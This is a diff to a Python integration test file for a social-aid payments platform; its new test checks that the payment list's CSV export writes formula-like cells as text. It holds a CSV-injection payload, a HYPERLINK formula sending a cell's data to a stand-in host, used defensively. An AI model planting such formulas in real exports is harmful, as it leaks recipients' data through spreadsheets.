@@ -1,7 +1,8 @@
 """Hostile files and text over the real stack (issue 9, points 6-9): what the gateway and the services refuse.
 
 - a zip bomb posted as XLSX is refused (``archive_bomb``) before it is inflated, nothing imported;
-- cells a spreadsheet would run as formulas are imported as given and warned about (``formula_like``);
+- cells a spreadsheet would run as formulas are imported as given and warned about (``formula_like``),
+  and the payment list's CSV export writes them as text;
 - names made of control, bidi or zero-width characters are refused (``invalid_name``), overrides removed;
 - addresses with control characters are refused (``invalid_address``);
 - a bogus list cursor is refused (``invalid_cursor``) on every paginated route, through the gateway and the service.
@@ -23,6 +24,7 @@ from common.aio.rpc import AsyncRpcClient
 from common.context import CallerContext
 from common.errors import ValidationFailed
 from tests.integration.platform.conftest import AMQP_URI, auth, household, idem
+from tests.integration.platform.test_aid_api import MONTH, YEAR, a_programme, step, unique_household
 from tests.integration.platform.test_imports_api import finished, name
 from tests.unit.registry_importing.conftest import padded_xlsx
 
@@ -109,6 +111,76 @@ async def test_formula_like_cells_are_imported_and_warned_about_phones_are_not(g
     assert (result["total_rows"], result["invalid"], result["created"]) == (3, 0, 3)
     warned = [(w["row"], w["field"], w["code"]) for w in result["warnings"]]
     assert warned == [(2, "head_given_name_lat", "formula_like"), (4, "head_given_name_lat", "formula_like")]
+
+
+async def a_failed_payment(gateway: httpx.AsyncClient, failure_reason: str) -> tuple[str, str]:
+    """A cash grant listed, sent, and reported failed by the operator with ``failure_reason``: (list id, reference)."""
+    code = await a_programme(gateway)
+    registered = await gateway.post("/v1/households", json=unique_household(), headers=auth("worker.1601", **idem()))
+    assert registered.status_code == 201, registered.text
+    body = {
+        "household_id": registered.json()["id"],
+        "area": "/DZ/16/1601",
+        "programme": code,
+        "channel": "walk_in",
+        "reason": "Sans revenu",
+    }
+    created = await gateway.post("/v1/aid-requests", json=body, headers=auth("worker.1601", **idem()))
+    assert created.status_code == 201, created.text
+    request_id = created.json()["id"]
+    proposal = {
+        "decision": "grant",
+        "motive": "Éligible",
+        "period": YEAR,
+        "payment_point": {"kind": "ccp", "ref": "0098765432 10"},
+    }
+    for name_, user, payload in (
+        ("diagnosis", "worker.1601", {"notes": "Visite faite"}),
+        ("eligibility-check", "worker.1601", None),
+        ("proposal", "worker.1601", proposal),
+        ("approval", "coordinator.1601", {"motive": "Dossier complet"}),
+    ):
+        done = await step(gateway, request_id, name_, user, payload)
+        assert done.status_code == 200, done.text
+    built = await gateway.post("/v1/payment-lists", json={"period": MONTH, "area": "/DZ/16"}, headers=auth("agent.16"))
+    assert built.status_code == 200, built.text
+    (listed,) = [lst for lst in built.json()["lists"] if any(p["request_id"] == request_id for p in lst["payments"])]
+    (payment,) = [p for p in listed["payments"] if p["request_id"] == request_id]
+    sent = await gateway.post(f"/v1/payment-lists/{listed['id']}/sending", headers=auth("agent.16"))
+    assert sent.status_code == 200, sent.text
+    out = io.StringIO()
+    csv.writer(out).writerows(
+        [("reference", "status", "paid_at", "failure_reason"), (payment["reference"], "failed", "", failure_reason)]
+    )
+    reconciled = await gateway.post(
+        "/v1/payment-reconciliations",
+        content=out.getvalue().encode(),
+        headers=auth("agent.16", **idem(), **{"Content-Type": "text/csv"}),
+    )
+    assert reconciled.status_code == 200, reconciled.text
+    return listed["id"], payment["reference"]
+
+
+async def test_the_payment_list_export_writes_formula_like_cells_as_text(gateway: httpx.AsyncClient) -> None:
+    attack = '=HYPERLINK("http://x.example/?"&B2,"Compte clos")'
+    list_id, reference = await a_failed_payment(gateway, attack)
+
+    exported = await gateway.get(f"/v1/payment-lists/{list_id}/csv", headers=auth("agent.16"))
+    assert exported.status_code == 200, exported.text
+    assert exported.headers["content-type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")), delimiter=";"))
+    (row,) = [r for r in rows if r["reference"] == reference]
+    assert (row["status"], row["failure"]) == ("failed", "'" + attack)
+    assert row["amount_dzd"] == "15000" and not any(cell.startswith("=") for r in rows for cell in r.values())
+
+    listed = await gateway.get(f"/v1/payment-lists/{list_id}", headers=auth("agent.16"))
+    (stored,) = [p for p in listed.json()["payments"] if p["reference"] == reference]
+    assert stored["failure"] == attack  # stored as given: only the export neutralises
+
+    for outsider, answer in (("director.31", 404), ("worker.3101", 403), ("worker.1601", 403)):
+        hidden = await gateway.get(f"/v1/payment-lists/{list_id}/csv", headers=auth(outsider))
+        assert hidden.status_code == answer, hidden.text  # another wilaya: as if it did not exist; a role: refused
+        assert reference not in hidden.text
 
 
 # ---------------------------------------------------------------- 8. names and addresses
